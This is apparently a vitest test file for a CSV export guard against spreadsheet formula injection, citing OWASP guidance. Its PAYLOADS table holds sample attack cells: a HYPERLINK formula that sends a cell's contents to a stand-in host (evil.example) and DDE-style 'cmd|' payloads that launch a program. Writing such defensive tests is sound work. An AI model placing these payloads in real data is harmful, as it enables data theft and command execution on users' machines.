import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import * as E from 'fp-ts/lib/Either.js'
import {
  FORMULA_PREFIXES,
  isFormulaLike,
  neutraliseFormula,
  restoreFormula,
} from '../../../src/io/csv/formula-guard.js'
import { toCsv } from '../../../src/io/csv/write.js'
import { readCsvEither } from '../../../src/io/csv/read.js'

// OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection):
// cells starting with = + - @ tab or carriage return must be prefixed with a
// single quote and the cell wrapped in double quotes.
const PAYLOADS: Record<string, string> = {
  '=': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+': "+1+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t': '\t=1+1',
  '\r': '\r=1+1',
  '\n': '\n=1+1',
  // Full-width forms, read as formulas by some spreadsheets (OWASP lists them among the bypasses).
  '\uFF1D': '\uFF1D1+1',
  '\uFF0B': '\uFF0B1+1',
  '\uFF0D': '\uFF0D1+1',
  '\uFF20': '\uFF20SUM(1)',
}

describe('formula-injection guard', () => {
  it('covers exactly the OWASP prefixes', () => {
    expect([...FORMULA_PREFIXES].sort()).toEqual(
      ['\t', '\r', '\n', '+', '-', '=', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort(),
    )
    expect(Object.keys(PAYLOADS).sort()).toEqual([...FORMULA_PREFIXES].sort())
  })

  it.each(Object.entries(PAYLOADS))('prefixes and quotes a cell starting with %j', (prefix, payload) => {
    expect(isFormulaLike(payload)).toBe(true)
    expect(neutraliseFormula(payload)).toBe(`'${payload}`)
    const csv = toCsv([{ unit: payload, k: 1 }])
    const [, line] = csv.split(/\n(?=")/)
    // The written cell is the quoted, prefixed value, with inner quotes doubled (RFC 4180).
    expect(line).toBe(`"'${payload.replace(/"/g, '""')}",1\n`)
    // A spreadsheet sees a cell that starts with a quote, not with the prefix.
    expect(csv.includes(`\n${prefix}`)).toBe(false)
    expect(csv.includes(`,${prefix}`)).toBe(false)
  })

  it('guards header cells too', () => {
    expect(toCsv([{ '=x': 1 }])).toBe(`"'=x"\n1\n`)
  })

  it('leaves safe text and typed numbers alone; a text "-3" is guarded', () => {
    expect(toCsv([{ unit: 'Acute care', delta: -0.25, note: '-3' }])).toBe(`unit,delta,note\nAcute care,-0.25,"'-3"\n`)
  })

  it.each(Object.entries(PAYLOADS))(
    'round-trips %j through toCsv and readCsv with stripFormulaGuard',
    (_prefix, payload) => {
      // readCsv trims only outside quotes, and a guarded cell is always quoted, so even
      // the tab and CR payloads come back exactly.
      const back = readCsvEither(toCsv([{ unit: payload }]), { stripFormulaGuard: true })
      expect(E.isRight(back) && back.right.records[0]!.cells[0]).toBe(payload)
    },
  )

  it('neutralise then restore is the identity on every string', () => {
    fc.assert(fc.property(fc.string(), (s) => restoreFormula(neutraliseFormula(s)) === s))
  })

  it('restore only removes a quote in front of a formula prefix', () => {
    expect(restoreFormula("'tis")).toBe("'tis")
    // A value that already looks guarded gets one more quote, and loses only that one.
    expect(neutraliseFormula("'=x")).toBe("''=x")
    expect(restoreFormula("''=x")).toBe("'=x")
  })
})
